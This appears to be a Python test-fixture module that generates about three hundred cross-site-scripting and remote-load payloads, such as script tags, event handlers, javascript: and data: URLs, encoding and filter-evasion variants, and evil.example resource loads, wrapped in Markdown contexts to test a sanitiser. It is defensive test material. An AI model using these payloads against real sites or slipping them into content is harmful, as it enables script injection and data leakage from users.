"""Three hundred texts that try to run a script, to load something from elsewhere, or to break out."""

from __future__ import annotations

EVIL = "http://evil.example"

SCRIPTS = (
    "<script>fired()</script>",
    "<ScRiPt>fired()</sCrIpT>",
    "<script src={evil}/x.js></script>",
    "<script>fired()</script",
    "<<script>fired()//<</script>",
    "<scr<script>ipt>fired()</scr</script>ipt>",
    "<img src=x onerror=fired()>",
    "<img src={evil}/pixel.png>",
    "<img/src=`x`onerror=fired()>",
    "<img srcset='{evil}/a.png 1x'>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<svg><animate onbegin=fired() attributeName=x dur=1s>",
    "<svg><image href={evil}/a.svg></svg>",
    "<svg><use href='{evil}/a.svg#x'></svg>",
    "<math><mi xlink:href='javascript:fired()'>x</mi></math>",
    "<iframe src='javascript:fired()'></iframe>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<iframe src={evil}></iframe>",
    "<object data='{evil}/x.swf'></object>",
    "<embed src={evil}>",
    "<video><source onerror=fired()></video>",
    "<video poster={evil}/p.png></video>",
    "<audio src={evil}/a.mp3 onerror=fired()></audio>",
    "<body onload=fired()>",
    "<details open ontoggle=fired()>x</details>",
    "<input autofocus onfocus=fired()>",
    "<select autofocus onfocus=fired()>",
    "<marquee onstart=fired()>x</marquee>",
    "<a href='javascript:fired()'>x</a>",
    "<form action='{evil}'><button>x</button></form>",
    "<isindex action=javascript:fired() type=image>",
    "<style>@import '{evil}/x.css';</style>",
    "<style>body{{background:url({evil}/b.png)}}</style>",
    "<link rel=stylesheet href={evil}/x.css>",
    "<link rel=prefetch href={evil}/x>",
    "<base href='{evil}/'>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<div style='background:url({evil}/a.png)'>x</div>",
    "<table background='{evil}/t.png'><td>x</td></table>",
    "<template><img src=x onerror=fired()></template>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "<xss style='animation-name:x' onanimationstart=fired()>",
    "<textarea></textarea><img src=x onerror=fired()>",
    "<title></title><script>fired()</script>",
    "<!--><img src=x onerror=fired()>-->",
    "<![CDATA[<script>fired()</script>]]>",
    "<?xml version='1.0'?><script>fired()</script>",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "&#60;img src=x onerror=fired()&#62;",
    "\\u003cscript\\u003efired()\\u003c/script\\u003e",
    "{{{{constructor.constructor('fired()')()}}}}",
    "${{fired()}}",
    "'\"><img src=x onerror=fired()>",
    '" onmouseover="fired()" x="',
    "</p></article><script>fired()</script>",
    "</mark><svg/onload=fired()>",
    "</code></pre><img src=x onerror=fired()>",
    "\ufeff<script>fired()</script>",
    "<script\x0c>fired()</script>",
)

ADDRESSES = (
    "{evil}/pixel.png?secret=1",
    "//evil.example/a.png",
    "https://evil.example/a.png",
    "javascript:fired()",
    "JaVaScRiPt:fired()",
    " javascript:fired()",
    "java\tscript:fired()",
    "javascript&colon;fired()",
    "javascript&#58;fired()",
    "javascript:/*--></title></style></textarea></script><svg/onload='fired()'>",
    "\x01javascript:fired()",
    "vbscript:fired()",
    "data:text/html,<script>fired()</script>",
    "data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=fired()>",
    "blob:{evil}/1",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "https://user:word@evil.example/",
    "http:evil.example",
    "\\\\evil.example\\x",
    "x' onerror='fired()",
    'x" onload="fired()',
    '{evil}/a.png "t" onerror="fired()',
    "<{evil}/a.png>",
    '#" onclick="fired()',
)

PLACES = (
    "![x]({0})",
    "[x]({0})",
    "[![x]({0})]({0})",
    "![x][ref]\n\n[ref]: {0}",
    '[x][ref]\n\n[ref]: {0} "t"',
    "<{0}>",
    '<img src="{0}">',
)

AROUND = (
    "{0}",
    "**{0}**",
    "`{0}`",
    "> {0}",
    "- {0}\n- b",
    "| a | b |\n|---|---|\n| {0} | c |",
    "```html\n{0}\n```",
    "# {0}",
)


def payloads() -> list[str]:
    """All of them, in one order: each script in turn in another place, each address in every place."""
    scripts = [script.format(evil=EVIL) for script in SCRIPTS]
    plain = [AROUND[0].format(script) for script in scripts]
    placed = [AROUND[1 + number % (len(AROUND) - 1)].format(script) for number, script in enumerate(scripts)]
    addresses = [address.replace("{evil}", EVIL) for address in ADDRESSES]
    linked = [place.format(address) for address in addresses for place in PLACES]
    return [*plain, *placed, *linked]
